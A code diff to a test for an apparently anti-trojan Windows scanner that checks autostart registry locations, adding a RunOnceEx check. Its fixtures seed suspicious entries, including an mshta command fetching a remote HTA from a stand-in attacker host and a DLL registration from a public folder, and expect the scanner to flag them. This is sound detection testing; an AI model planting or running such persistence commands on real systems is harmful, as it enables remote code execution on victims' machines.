@@ -24,6 +24,7 @@ const wchar_t kCmd[] = L"Software\\Microsoft\\Command Processor";
 const wchar_t kWinlogon[] = L"Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
 const wchar_t kRdpwd[] = L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\Wds\\rdpwd";
 const wchar_t kNotify[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
+const wchar_t kRunOnceEx[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001";
 const wchar_t kActiveSetup[] = L"SOFTWARE\\Microsoft\\Active Setup\\Installed Components";
 
 std::string MultiBytes(const std::wstring& text) { return WideBytes(text) + std::string(2, '\0'); }
@@ -37,7 +38,7 @@ struct Seeded {
 class ValuePlaces : public checksupport::CheckTest {
  protected:
   static void RunAll() {
-    for (const wchar_t* tag : {L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS", L"RWN", L"RAS"})
+    for (const wchar_t* tag : {L"RROX", L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS", L"RWN", L"RAS"})
       ModuleValuePlaces::CheckTag(tag);
   }
 };
@@ -62,6 +63,8 @@ TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
   EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());
 
   const Seeded found[] = {
+      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvlib", {REG_SZ, WideBytes(L"||C:\\Users\\Public\\x.dll|DllRegisterServer")}},
+      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvcmd", {REG_SZ, WideBytes(L"mshta http://evil.example/a.hta")}},
       {HKEY_CURRENT_USER, kWinlogon, L"Shell", {REG_SZ, WideBytes(L"explorer.exe")}},
       {HKEY_LOCAL_MACHINE, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
       {HKEY_LOCAL_MACHINE,
@@ -97,6 +100,8 @@ TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
   }
   const std::wstring m = L"：发现可疑程序，可能是木马! -> ";
   EXPECT_EQ((std::vector<std::wstring>{
+                L"(RROX)" + m + L"mshta http://evil.example/a.hta 跳过,未清除!",
+                L"(RROX)" + m + L"||C:\\Users\\Public\\x.dll|DllRegisterServer 跳过,未清除!",
                 L"(RUW)" + m + L"explorer.exe 跳过,未清除!",
                 L"(RCP)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                 L"(RBE)" + m + L"autocheck autochk * | zvboot 跳过,未清除!",
